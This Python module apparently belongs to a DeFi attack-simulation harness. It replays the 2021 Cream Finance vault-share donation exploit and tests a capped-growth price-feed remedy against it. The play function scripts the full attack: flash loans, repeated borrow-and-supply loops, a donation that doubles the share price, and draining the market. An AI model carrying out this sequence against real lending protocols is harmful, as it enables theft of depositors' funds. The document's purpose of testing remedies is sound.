"""Cream, 27 October 2021: a gift to a vault doubles the price of its shares, which are collateral.

The steps are those of the day. The attacker's account holds claims on three times the shares there
are, since a second account borrows them against lent ETH and hands them back; most are
then redeemed, so that a gift of the size of the few left doubles the price of all the claims.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import all_of, borrow, call, flash_loan, supply
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage
from harness.contracts import Contract

RAY = 10**27
YEAR = 365 * 86_400


@dataclass(frozen=True)
class Donation(Parameters):
    """USD and whole tokens; ETH at $4,000.

    loan_usd: of the vault's asset, for one transaction; also what each round borrows in shares
    loan_eth: for one transaction
    left_usd: shares that are not redeemed before the gift, which is as large
    lendable_usd: what else the market has to lend
    growth_bps: the most a share's price may grow in a year, when remedied
    """

    loan_usd: float = 500_000_000.0
    loan_eth: float = 500_000.0
    left_usd: float = 8_000_000.0
    lendable_usd: float = 130_000_000.0
    growth_bps: int = 1_000


def play(stage: Stage, p: Donation) -> Generator[int | None, None, None]:
    """One transaction; see the module."""
    usd, eth = stage.token("USD", 1), stage.token("ETH", 4_000)
    usdc = stage.token("USDC", 1, decimals=6)
    for symbol in ("USD", "ETH", "USDC"):
        stage.feed(symbol)
    base = stage.lending("base", {"USD": {}})
    vault = stage.vault("yUSD", base, "USD", counts_gifts=True)
    lender = stage.lending("lender", {"USD": {}, "ETH": {}})
    terms = {"ltv": 8_000, "threshold": 8_500, "bonus": 800}
    market = stage.lending(
        "market", {"yUSD": {"feed": _feed(stage, p, vault), **terms}, "ETH": terms, "USDC": {}}
    )
    stage.supplier("supplier", market, USDC=p.lendable_usd)
    stage.supplier("whale", lender, role="bystander", USD=p.loan_usd, ETH=p.loan_eth)
    first, second = stage.actor("attacker"), stage.actor("second-account")
    stage.approve(first, ["USD", "ETH", "yUSD"], market, vault, base)
    stage.prepare(second, call(market.market, "setOperator", first, True))
    yield None

    loan, left = stage.units("USD", p.loan_usd), stage.units("USD", p.left_usd)
    lend_on = [
        call(market.market, "borrow", vault, loan, second, first),
        supply(market.market, vault, all_of(vault, first), first),
    ]
    stage.send(
        "borrow for the block, claim the shares three times over, redeem all but a few, give "
        "their worth to the vault, borrow everything",
        first,
        flash_loan(
            lender.market,
            first,
            eth,
            stage.units("ETH", p.loan_eth),
            [
                flash_loan(
                    lender.market,
                    first,
                    usd,
                    loan,
                    [
                        call(vault, "deposit", loan, first),
                        supply(market.market, vault, all_of(vault, first), first),
                        supply(market.market, eth, all_of(eth, first), second),
                        *lend_on,
                        *lend_on,
                        call(market.market, "borrow", vault, loan, second, first),
                        call(vault, "redeem", loan - left, first, first),
                        supply(base.market, usd, left, vault),
                        borrow(market.market, eth, all_of(eth, market), first),
                        borrow(market.market, usdc, all_of(usdc, market), first),
                        call(vault, "redeem", all_of(vault, first), first, first),
                    ],
                )
            ],
        ),
    )
    yield None


def _feed(stage: Stage, p: Donation, vault: Contract) -> Contract:
    share = stage.deploy("SharePriceFeed", vault, 18, "yUSD / USD")
    if p.remedied:
        rate = p.growth_bps * RAY // (10_000 * YEAR)
        listed = stage.start - YEAR // 365
        share = stage.deploy("CappedGrowthFeed", share, 10**18, listed, rate, "capped")
    return stage.deploy("ProductFeed", share, stage.feeds["USD"], 8, "yUSD / USD")


ATTACK = Attack(
    name="share-donation",
    title="a gift to a vault doubles the price of its shares, which are collateral",
    sources=("Cream Finance, 27 October 2021",),
    play=play,
    parameters=Donation(),
    remedy="a cap on how fast the share's price may grow",
    stopped_by="BorrowLimitExceeded",
    protocol=(Check("profit", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda p: Check("profit", at_least=p.lendable_usd * 0.999),
    reported="$130M",
)
